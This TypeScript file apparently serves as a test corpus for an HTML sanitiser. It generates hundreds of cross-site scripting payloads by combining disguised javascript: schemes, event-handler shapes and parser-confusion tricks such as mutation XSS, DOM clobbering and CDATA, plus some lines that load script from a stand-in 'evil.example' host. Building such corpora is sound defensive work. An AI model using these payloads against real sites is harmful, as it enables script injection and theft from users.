/**
 * Attacks on a sanitiser, as classes times variations: where the script hides (a tag, a handler, an address), how it is
 * disguised (case, entities, control characters) and what the browser's parser is tricked with (raw text, foreign content,
 * wrong nesting).
 */

/** Spellings of `javascript:` that browsers take for it, or once did. */
const SCRIPT_SCHEMES = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  " javascript:alert(1)",
  "\u0001javascript:alert(1)",
  "java\tscript:alert(1)",
  "java\nscript:alert(1)",
  "java&Tab;script:alert(1)",
  "java&NewLine;script&colon;alert(1)",
  "&#106;avascript:alert(1)",
  "&#x6A;avascript&#58;alert(1)",
  "&#0000106avascript:alert(1)",
  "javascript&colon;alert(1)",
  "javascript://%0aalert(1)",
  "javascript:/*--></title></style></textarea></script><svg onload=alert(1)>*/",
  "jav<!-- -->ascript:alert(1)",
  "\u00a0javascript:alert(1)",
  "vbscript:msgbox(1)",
  "livescript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
  "DATA:text/html;charset=utf-7,+ADw-script+AD4-",
  "blob:https://evil.example/1",
  "file:///etc/passwd",
  "feed:javascript:alert(1)",
  "view-source:javascript:alert(1)",
  "https://bank.example@evil.example/",
]

/** Places of an address; `@` is the address. */
const ADDRESS_SINKS = [
  `<a href="@">x</a>`,
  `<a href='@'>x</a>`,
  `<a xlink:href="@">x</a>`,
  `<a href="https://ok.example/" ping="@">x</a>`,
  `<img src="@">`,
  `<img srcset="@ 1x, @ 2x">`,
  `<img src="@" data-src="@">`,
  `<img dynsrc="@" lowsrc="@" longdesc="@" usemap="@">`,
  `<image src="@">`,
  `<picture><source srcset="@"><img src="@"></picture>`,
  `<video src="@" poster="@"><source src="@"><track src="@"></video>`,
  `<audio src="@"></audio>`,
  `<blockquote cite="@">x</blockquote>`,
  `<q cite="@">x</q><del cite="@">x</del>`,
  `<iframe src="@"></iframe>`,
  `<iframe srcdoc="@" data-src="@"></iframe>`,
  `<embed src="@">`,
  `<object data="@"><param name=src value="@"></object>`,
  `<form action="@"><button formaction="@">x</button><input type=image src="@"></form>`,
  `<base href="@"><a href="x">x</a>`,
  `<link rel=stylesheet href="@">`,
  `<meta http-equiv=refresh content="0;url=@">`,
  `<body background="@">x`,
  `<table background="@"><td background="@">x`,
  `<svg><a href="@"><text>x</text></a></svg>`,
  `<svg><use href="@"/></svg>`,
  `<svg><a><animate attributeName=href values="@"/><text>x</text></a></svg>`,
  `<math href="@">x</math>`,
  `<math><mtext><a href="@">x</a></mtext></math>`,
  `<div style="background:url(@)">x</div>`,
  `<style>@import "@";</style>`,
]

const HANDLERS = ["onclick", "ONLOAD", "onerror", "onmouseover", "onfocus", "ontoggle", "onbegin", "onpointerrawupdate"]

/** Ways to put a handler on a tag; `@` is the handler's name. */
const HANDLER_SHAPES = [
  `<p @=alert(1)>x</p>`,
  `<img src=x @="alert(1)">`,
  `<img src=x @ = 'alert(1)'>`,
  `<img/src=x/@=alert(1)>`,
  `<img src="x"@="alert(1)">`,
  `<img src=x\u000c@=alert(1)>`,
  `<img src=x \u0000@=alert(1)>`,
  `<img src='x' alt='"><img @=alert(1)>'>`,
  `<img """><img src=x @=alert(1)>`,
  `<a href="https://ok.example/" title="'>"@="alert(1)">x</a>`,
  `<details open @=alert(1)><summary>x</summary></details>`,
  `<video src=x @=alert(1) autoplay></video>`,
  `<input autofocus @=alert(1)>`,
  `<body @=alert(1)>`,
  `<svg @=alert(1)>`,
  `<svg/@=alert(1)//`,
  `<svg><animate @=alert(1) attributeName=x dur=1s>`,
  `<svg><foreignObject><img src=x @=alert(1)></foreignObject></svg>`,
  `<math><mi @=alert(1)>x</mi></math>`,
  `<x-custom @=alert(1) tabindex=1>x</x-custom>`,
  `<marquee @=alert(1)>x</marquee>`,
  `<time datetime='x' @='alert(1)'>x</time>`,
  `&lt;img src=x @=alert(1)&gt;`,
]

/** Elements whose content one parser reads as text and another as tags. */
const RAW_TEXT = (
  "script style textarea title xmp noscript noembed noframes iframe plaintext template select option svg math object " +
  "button listing comment"
).split(" ")

/** `@` is such an element. */
const RAW_SHAPES = [
  `<@>alert(1)</@>`,
  `<@ src=//evil.example/x.js></@>`,
  `<@><img src=x onerror=alert(1)></@>`,
  `<@></@ ><img src=x onerror=alert(1)>`,
  `<@></@/><img src=x onerror=alert(1)>`,
  `<@><!--</@><img src=x onerror=alert(1)>-->`,
  `<@><a title="</@><img src=x onerror=alert(1)>">x</a></@>`,
  `<svg><@><img src=x onerror=alert(1)></@></svg>`,
  `<svg></p><@><a title="</@><img src=x onerror=alert(1)>">`,
  `<math><mtext><table><mglyph><@><img src=x onerror=alert(1)></@>`,
  `<math><annotation-xml encoding="text/html"><@><img src=x onerror=alert(1)></@></annotation-xml></math>`,
  `<div><@></div><img src=x onerror=alert(1)></@>`,
  `<@>&lt;img src=x onerror=alert(1)&gt;</@>`,
  `<@ <@>alert(1)</@>`,
  `<<@>alert(1)//<</@>`,
  `<scr<@>ipt>alert(1)</scr</@>ipt>`,
  `<form><math><mtext></form><form><mglyph><@></math><img src=x onerror=alert(1)>`,
  `<table><td><@></td></table><img src=x onerror=alert(1)>`,
]

const SINGLE = [
  `<!--<img src="--><img src=x onerror=alert(1)//">`,
  `<!--><img src=x onerror=alert(1)>-->`,
  `<!--!><img src=x onerror=alert(1)>--!>`,
  `<!--[if IE]><script>alert(1)</script><![endif]-->`,
  `<![CDATA[<img src=x onerror=alert(1)>]]>`,
  `<svg><![CDATA[</svg><img src=x onerror=alert(1)>]]></svg>`,
  `<?xml version="1.0"?><?xml-stylesheet href="javascript:alert(1)"?>`,
  `<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;`,
  `<a id=x><a id=x name=y href="cid:x">clobbered</a>`,
  `<form id=document><input name=cookie></form>`,
  `<img name=getElementById><p id=location class=hidden>x</p>`,
  `<p style="position:fixed;inset:0;background:url(https://evil.example)">x</p>`,
  `<p style="width:expression(alert(1))">x</p>`,
  `<a href="https://ok.example/" target=_blank rel=opener>x</a>`,
  `<p><style><p title="</style><img src=x onerror=alert(1)>">`,
  `<constructor>x</constructor><__proto__ onclick=alert(1)>x</__proto__>`,
  `<p __proto__=x constructor=y toString=z>x</p>`,
  `<p ${'"'.repeat(50)}><img src=x onerror=alert(1)>`,
  `<a href="https://ok.example/&quot;onclick=alert(1)//">x</a>`,
  `<a href="https://ok.example/" title="&quot;><script>alert(1)</script>">x</a>`,
  `<img alt="\`onerror=alert(1)">`,
  `<ruby><rt><template><s><ruby><time><rt><style><!--</rt></style><a title="--><img src=x onerror=alert(1)>">`,
  `<b><table><tr><td><svg><desc><td></desc></svg><img src=x onerror=alert(1)>`,
  `${"<div>".repeat(600)}<style><img src=x onerror=alert(1)></style>`,
  `${"<svg><g>".repeat(300)}<img src=x onerror=alert(1)>`,
  `<iframe><iframe><iframe></iframe><img src=x onerror=alert(1)>`,
  `<iframe src="https://ok.example/" title="<img src=x onerror=alert(1)>"><p>fallback</p></iframe>`,
  `<\u0000script>alert(1)</script>`,
  `<ſcript>alert(1)</ſcript>`,
  `＜script＞alert(1)＜/script＞`,
  `<script`,
  `<img src=x onerror=alert(1)`,
  `</p onclick=alert(1)><br/onclick=alert(1)>`,
]

function times(shapes: string[], fillings: string[]): string[] {
  return shapes.flatMap((shape) => fillings.map((filling) => shape.replaceAll("@", () => filling)))
}

export const XSS_PAYLOADS: readonly string[] = [
  ...times(ADDRESS_SINKS, SCRIPT_SCHEMES),
  ...times(HANDLER_SHAPES, HANDLERS),
  ...times(RAW_SHAPES, RAW_TEXT),
  ...SINGLE,
]
